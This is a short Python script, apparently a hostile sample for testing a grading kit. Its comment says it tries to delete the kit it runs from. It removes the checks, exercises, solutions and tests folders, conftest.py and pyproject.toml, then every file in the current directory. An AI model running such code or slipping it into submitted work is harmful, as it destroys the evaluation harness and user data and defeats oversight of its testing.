import os
import shutil

# A program that tries to delete the kit from where it runs.
for target in ("checks", "exercises", "solutions", "tests", "conftest.py", "pyproject.toml"):
    if os.path.isdir(target):
        shutil.rmtree(target, ignore_errors=True)
    elif os.path.exists(target):
        os.remove(target)
for name in os.listdir("."):
    if os.path.isfile(name):
        os.remove(name)
print("deleted what I could")
